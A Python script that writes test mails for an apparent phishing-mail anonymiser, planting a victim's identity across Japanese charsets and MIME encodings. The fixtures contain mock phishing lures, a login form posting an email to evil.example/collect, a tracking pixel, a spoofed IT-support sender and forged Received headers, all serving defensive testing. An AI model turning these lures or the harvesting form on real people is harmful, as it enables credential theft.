#!/usr/bin/env python3
"""Write the hand-made mails of tests/data/anon/ (run once, by hand; the
tests read the committed .eml files and never run this).

planted.eml carries one recipient's identity (taro.yamada@victim.example.jp,
山田 太郎 / Taro Yamada, the provider domain victim.example.jp, its hosts
mx1/mbox.victim.example.jp and internal IPs 10.20.30.40 and 192.168.5.6) in
every place a mail can carry it, across ISO-2022-JP, Shift_JIS, EUC-JP and
UTF-8 and base64, quoted-printable and 8bit.  The attacker's side
(evil@attacker.example, 203.0.113.9, https://evil.example/) must survive.
The other files are smaller cases for one rule each.
"""
import base64
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
ADDR = "taro.yamada@victim.example.jp"


def b64(s, enc="utf-8"):
    return base64.b64encode(s.encode(enc) if isinstance(s, str) else s).decode()


def ew_b(s, cs):
    """One RFC 2047 B encoded word."""
    return "=?%s?B?%s?=" % (cs, b64(s, cs))


def wrap76(s):
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76))


def jis(s):
    return s.encode("iso-2022-jp")


def pdf_bytes():
    # Deterministic "binary" content: a PDF header and bytes 0..255.
    body = bytes((i * 37 + 11) % 256 for i in range(3000))
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + body + b"\n%%EOF\n"


def planted():
    b64_addr = b64(ADDR).rstrip("=")
    b64_param = b64("email=%s&id=48151623" % ADDR)
    b64_url = base64.urlsafe_b64encode(("u=" + ADDR).encode()).decode()

    plain_jis = (
        "山田様\n\n"
        "Dear Taro Yamada,\n\n"
        "アカウントの確認が必要です。以下からログインしてください。\n"
        "https://evil.example/login?email=%s&lang=ja\n"
        "https://evil.example/l?u=taro.yamada%%40victim.example.jp\n"
        "https://evil.example/t/%s\n"
        "https://evil.example/r?d=%s\n"
        "https://evil.example/s?x=%s\n\n"
        "> On Mon, 3 Jun 2024 at 09:00, %s wrote:\n"
        "> 山田です。社内サーバ mx1.victim.example.jp (10.20.30.40) の件です。\n"
    ) % (ADDR, b64_addr, b64_param, b64_url, ADDR)

    html_sjis = (
        "<html><head><meta charset=\"shift_jis\"></head><body>\n"
        "<p>山田 太郎 様</p>\n"
        "<p>Dear Taro Yamada, ①お知らせ ㈱ビクティム</p>\n"
        "<p><a href=\"https://evil.example/login?email=taro.yamada%%40victim.example.jp\">"
        "https://evil.example/login</a></p>\n"
        "<p>宛先: taro.yamada&#64;victim.example.jp</p>\n"
        "<p>Mailbox: TARO.YAMADA@VICTIM.EXAMPLE.JP on mbox.victim.example.jp</p>\n"
        "<img src=\"https://evil.example/px.gif?u=%s\" width=\"1\">\n"
        "</body></html>\n"
    ) % b64_addr
    html_qp = quopri.encodestring(html_sjis.encode("cp932")).decode()

    euc = (
        "山田様へ\n"
        "メールアドレス: %s\n"
        "内部ホスト: mbox.victim.example.jp 192.168.5.6\n"
    ) % ADDR
    euc_b64 = wrap76(b64(euc, "euc-jp"))

    notes = (
        "Taro Yamada <%s>\n"
        "server: mx1.victim.example.jp\n"
        "IP 10.20.30.40\n"
        "鈴木 花子さんにも送信されています。\n"
    ) % ADDR

    login_html = (
        "<html><body><form action=\"https://evil.example/collect\">"
        "<input name=\"email\" value=\"%s\">"
        "<script>var u = atob('%s');</script>"
        "</form></body></html>\n"
    ) % (ADDR, b64(ADDR))
    login_b64 = wrap76(b64(login_html))

    fwd_body = jis(
        "セキュリティ担当様\n\n"
        "山田です。不審なメールを受け取りました。\n"
        "-- \n"
        "山田 太郎 <%s>\n" % ADDR).decode("ascii")

    pdf = wrap76(b64(pdf_bytes()))

    # Subject: two adjacent base64 words, the first padded ("Re: 山",
    # 7 bytes), the name split between them (GMime issue 133).
    subj = "%s %s" % (ew_b("Re: 山", "UTF-8"), ew_b("田様 ご確認ください", "UTF-8"))

    msg = (
        "Received: from mx1.victim.example.jp (mx1.victim.example.jp [10.20.30.40])\n"
        "\tby mbox.victim.example.jp (192.168.5.6) with LMTP id 4AB12\n"
        "\tfor <%(a)s>; Tue, 4 Jun 2024 10:00:02 +0900 (JST)\n"
        "Received: from mail.attacker.example (mail.attacker.example [203.0.113.9])\n"
        "\tby mx1.victim.example.jp (Postfix) with ESMTPS id 3CD34\n"
        "\tfor <%(a)s>; Tue, 4 Jun 2024 10:00:01 +0900 (JST)\n"
        "Received: from desktop (unknown [198.51.100.23])\n"
        "\tby mail.attacker.example (Postfix) with ESMTPSA id 1GH78;\n"
        "\tTue, 4 Jun 2024 10:00:00 +0900 (JST)\n"
        "Authentication-Results: mx1.victim.example.jp; spf=pass smtp.mailfrom=attacker.example\n"
        "X-Scanned-By: mbox.victim.example.jp (10.20.30.40)\n"
        "Delivered-To: %(a)s\n"
        "X-Original-To: %(a)s\n"
        "Envelope-To: %(a)s\n"
        "From: \"Evil Sender\" <evil@attacker.example>\n"
        "Reply-To: evil-reply@attacker.example\n"
        "To: %(to_name)s <%(a)s>\n"
        "Cc: \"Taro Yamada\" <Taro.Yamada@Victim.Example.JP>,\n"
        " =?UTF-8?Q?=E9=88=B4=E6=9C=A8_=E8=8A=B1=E5=AD=90?= <hanako.suzuki@victim.example.jp>\n"
        "Subject: %(subj)s\n"
        "Date: Tue, 4 Jun 2024 10:00:00 +0900\n"
        "Message-ID: <20240604100000.4AB12@victim.example.jp>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=\"==outer==\"\n"
        "\n"
        "This is a multi-part message in MIME format.\n"
        "\n"
        "--==outer==\n"
        "Content-Type: multipart/alternative; boundary=\"==alt==\"\n"
        "\n"
        "--==alt==\n"
        "Content-Type: text/plain; charset=ISO-2022-JP\n"
        "Content-Transfer-Encoding: 7bit\n"
        "\n"
        "%(plain)s\n"
        "--==alt==\n"
        "Content-Type: text/html; charset=Shift_JIS\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n"
        "%(html)s\n"
        "--==alt==--\n"
        "\n"
        "--==outer==\n"
        "Content-Type: text/plain; charset=EUC-JP\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
        "%(euc)s\n"
        "--==outer==\n"
        "Content-Type: text/plain; charset=UTF-8\n"
        "Content-Transfer-Encoding: 8bit\n"
        "Content-Disposition: attachment; filename=\"notes.txt\"\n"
        "\n"
        "%(notes)s\n"
        "--==outer==\n"
        "Content-Type: application/pdf; name=\"invoice.pdf\"\n"
        "Content-Transfer-Encoding: base64\n"
        "Content-Disposition: attachment;\n"
        " filename*=UTF-8''%%E5%%B1%%B1%%E7%%94%%B0%%E6%%A7%%98_invoice.pdf\n"
        "\n"
        "%(pdf)s\n"
        "--==outer==\n"
        "Content-Type: application/octet-stream; name=\"login.html\"\n"
        "Content-Transfer-Encoding: base64\n"
        "Content-Disposition: attachment; filename=\"login.html\"\n"
        "\n"
        "%(login)s\n"
        "--==outer==\n"
        "Content-Type: message/rfc822\n"
        "Content-Disposition: attachment; filename=\"forwarded.eml\"\n"
        "\n"
        "Received: from pc-taro.victim.example.jp ([192.168.5.6])\n"
        "\tby mx1.victim.example.jp (Postfix) with ESMTP id 9XY99;\n"
        "\tMon, 3 Jun 2024 09:00:00 +0900 (JST)\n"
        "From: %(to_name)s <%(a)s>\n"
        "To: security@victim.example.jp\n"
        "Subject: %(fwd_subj)s\n"
        "Message-ID: <fw-1@victim.example.jp>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=ISO-2022-JP\n"
        "Content-Transfer-Encoding: 7bit\n"
        "\n"
        "%(fwd)s\n"
        "--==outer==--\n"
    ) % {
        "a": ADDR,
        "to_name": ew_b("山田 太郎", "ISO-2022-JP"),
        "subj": subj,
        "plain": jis(plain_jis).decode("ascii"),
        "html": html_qp,
        "euc": euc_b64,
        "notes": notes,
        "pdf": pdf,
        "login": login_b64,
        "fwd_subj": ew_b("Fw: 不審なメール", "ISO-2022-JP"),
        "fwd": fwd_body,
    }
    with open(os.path.join(HERE, "planted.eml"), "wb") as f:
        f.write(msg.encode("utf-8"))
    with open(os.path.join(HERE, "planted.pdf.sha256"), "w") as f:
        import hashlib
        f.write(hashlib.sha256(pdf_bytes()).hexdigest() + "\n")


def spoofed():
    # A phishing mail that pretends to come from the provider itself.
    msg = (
        "Received: from mail.attacker.example (mail.attacker.example [203.0.113.9])\n"
        "\tby mx1.victim.example.jp (Postfix) with ESMTP id 5AA01\n"
        "\tfor <hanako.suzuki@victim.example.jp>; Wed, 5 Jun 2024 08:00:00 +0900\n"
        "From: \"Victim IT Support\" <it-support@victim.example.jp>\n"
        "To: hanako.suzuki@victim.example.jp\n"
        "Subject: Password expiry\n"
        "Date: Wed, 5 Jun 2024 08:00:00 +0900\n"
        "Message-ID: <abc123@mail.attacker.example>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=UTF-8\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n"
        "Your password at victim.example.jp expires today.\n"
        "Keep it at https://evil.example/reset?d=3Dvictim.example.jp&u=3Dhanako.suzu=\n"
        "ki%40victim.example.jp\n"
        "-- \n"
        "IT Support, VPN gw.victim.example.jp\n"
    )
    with open(os.path.join(HERE, "spoofed-from.eml"), "w") as f:
        f.write(msg)


def binary_leak():
    # An 8-bit attachment whose bytes carry the address: kept byte for byte,
    # so the check must fail the message instead of sharing it.
    head = (
        "From: evil@attacker.example\n"
        "To: taro.yamada@victim.example.jp\n"
        "Subject: data\n"
        "MIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=b\n"
        "\n"
        "--b\n"
        "Content-Type: text/plain\n"
        "\n"
        "see attachment\n"
        "--b\n"
        "Content-Type: application/octet-stream; name=data.bin\n"
        "Content-Transfer-Encoding: binary\n"
        "\n"
    ).encode()
    data = b"\x00\x01\x02BIN\x00taro.yamada@victim.example.jp\x00\xff\xfe\n"
    with open(os.path.join(HERE, "binary-leak.eml"), "wb") as f:
        f.write(head + data + b"--b--\n")


def received_chain():
    # Exchange-style internal hops, a border hop and a HELO spoof.
    msg = (
        "Received: from EXCH02.corp.victim.example.jp (10.20.1.2) by\n"
        " EXCH01.corp.victim.example.jp (10.20.1.1) with Microsoft SMTP Server\n"
        " id 15.1.2507.39; Thu, 6 Jun 2024 09:00:03 +0900\n"
        "Received: from gw.victim.example.jp (10.20.0.1) by EXCH02.corp.victim.example.jp\n"
        " (10.20.1.2) with Microsoft SMTP Server id 15.1.2507.39; Thu, 6 Jun 2024\n"
        " 09:00:02 +0900\n"
        "Received: from mx1.victim.example.jp (HELO victim.example.jp) ([203.0.113.9])\n"
        "  by gw.victim.example.jp with ESMTP; 06 Jun 2024 09:00:01 +0900\n"
        "Received: by 10.20.1.9 with SMTP id q1; Thu, 6 Jun 2024 09:00:04 +0900\n"
        "Received: from smtp.attacker.example (localhost [127.0.0.1])\n"
        "\tby smtp.attacker.example (Postfix) with ESMTP id 77; Thu, 6 Jun 2024 09:00:00 +0900\n"
        "From: billing@attacker.example\n"
        "To: jiro@victim.example.jp\n"
        "Subject: Invoice\n"
        "X-Originating-IP: [10.20.1.9]\n"
        "\n"
        "Please pay.\n"
    )
    with open(os.path.join(HERE, "received.eml"), "w") as f:
        f.write(msg)


if __name__ == "__main__":
    planted()
    spoofed()
    binary_leak()
    received_chain()
